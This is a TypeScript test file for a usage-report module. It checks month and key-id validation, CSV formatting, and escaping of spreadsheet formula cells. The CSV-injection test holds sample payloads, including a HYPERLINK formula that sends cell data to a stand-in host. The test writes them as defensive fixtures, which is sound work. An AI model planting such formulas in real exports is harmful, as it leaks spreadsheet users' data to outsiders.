/**
 * The usage report's pure parts: what a month and a key id may be (boundary rows), and how
 * answers the CSV has no column of their own are still counted. The stores are in usage-suite.ts.
 */
import t from 'tap';
import { BUILT_IN_PLANS } from '../../policy/plans.ts';
import { toCsv } from '../../policy/usage-format.ts';
import { UsageInputError, buildReport, monthBounds, parseKeyId, parseMonth } from '../../policy/usage-report.ts';

t.test('months: YYYY-MM, 01 to 12, years 1970 to 9999', async (t) => {
  const rows: Array<[string, boolean]> = [
    ['2026-01', true], ['2026-12', true], ['2026-00', false], ['2026-13', false], ['1970-01', true], ['1969-12', false],
    ['9999-12', true], ['2026-1', false], ['26-01', false], ['2026-01-01', false], ['2026/01', false], [' 2026-01', false],
    ['August', false], ['', false],
  ];
  for (const [text, ok] of rows) {
    if (ok) t.equal(parseMonth(text), text, text);
    else t.throws(() => parseMonth(text), UsageInputError, JSON.stringify(text));
  }
  t.same(monthBounds('2026-12'), { from: Date.parse('2026-12-01T00:00:00Z'), to: Date.parse('2027-01-01T00:00:00Z') }, 'December ends at the next year');
});

t.test('key ids: the form keys create gives; anything else is unknown and not echoed', async (t) => {
  t.equal(parseKeyId('key_AbC-_012345x'), 'key_AbC-_012345x');
  for (const bad of ['sk_' + 'a'.repeat(43), 'key_', 'KEY_abc', 'key_a b', 'key_a,b']) {
    t.throws(() => parseKeyId(bad), { code: 'unknown_key' }, bad);
    if (bad === 'key_') continue;
    try {
      parseKeyId(bad);
    } catch (err) {
      t.notOk((err as Error).message.includes(bad), `${bad}: not in the message`);
    }
  }
});

t.test('answers without a column of their own are counted in status_other and error_other', async (t) => {
  const report = buildReport('2026-08', {
    keys: [{ id: 'key_aaaaaaaaaaaa', name: 'a\r\nb', plan: 'free', createdAt: Date.parse('2026-08-02T00:00:00Z'), revokedAt: null }],
    tallies: [
      { keyId: 'key_aaaaaaaaaaaa', operation: 'pdf', status: 500, error: 'internal', cache: null, metered: false, outcome: 'settled', n: 2 },
      { keyId: 'key_aaaaaaaaaaaa', operation: 'pdf', status: 200, error: null, cache: 'miss', metered: true, outcome: 'settled', n: 3 },
    ],
    used: [{ keyId: 'key_aaaaaaaaaaaa', used: 3 }],
    open: [],
  }, BUILT_IN_PLANS);
  const csv = toCsv(report);
  t.ok(csv.endsWith('\r\n'), 'the last record ends with CRLF');
  t.match(csv, /^[^\r\n]+\r\n2026-08,key_aaaaaaaaaaaa,"a\r\nb",free,/, 'a field with a line break is quoted');
  const [header, row] = csv.replace('"a\r\nb"', 'ab').split('\r\n');
  const cols = header!.split(',');
  const fields = row!.split(',');
  const at = (name: string) => fields[cols.indexOf(name)];
  t.equal(at('status_other'), '2');
  t.equal(at('error_other'), '2');
  t.equal(at('status_200'), '3');
  t.equal(at('remaining'), '97');
});

t.test('CSV: a cell a spreadsheet would run as a formula is written as text (OWASP, CSV injection)', async (t) => {
  const names = ['=HYPERLINK("http://x.example/?"&A1,"open")', '+1+cmd', '-2+3', '@SUM(A1)', '\tlead', '\rlead', 'plain', 'a-b=c'];
  const report = buildReport('2026-08', {
    keys: names.map((name, i) => ({ id: `key_aaaaaaaaaaa${i}`, name, plan: 'free', createdAt: Date.parse('2026-08-02T00:00:00Z'), revokedAt: null })),
    tallies: [],
    used: [],
    open: [],
  }, BUILT_IN_PLANS);
  const rows = toCsv(report).split('\r\n').slice(1);
  const nameOf = (i: number) => rows.find((r) => r.includes(`key_aaaaaaaaaaa${i},`))!.split(`key_aaaaaaaaaaa${i},`)[1]!;
  t.ok(nameOf(0).startsWith(`"'=HYPERLINK(""http://x.example/?""&A1,""open"")",free,`), 'a formula: a leading quote mark, quoted, its quotes doubled');
  t.ok(nameOf(1).startsWith(`"'+1+cmd",free,`), '+');
  t.ok(nameOf(2).startsWith(`"'-2+3",free,`), '-');
  t.ok(nameOf(3).startsWith(`"'@SUM(A1)",free,`), '@');
  t.ok(nameOf(4).startsWith(`"'\tlead",free,`), 'tab');
  t.ok(nameOf(5).startsWith(`"'\rlead",free,`), 'carriage return');
  t.ok(nameOf(6).startsWith('plain,free,'), 'plain text is written as it is');
  t.ok(nameOf(7).startsWith('a-b=c,free,'), 'a sign inside the text is no formula');
});
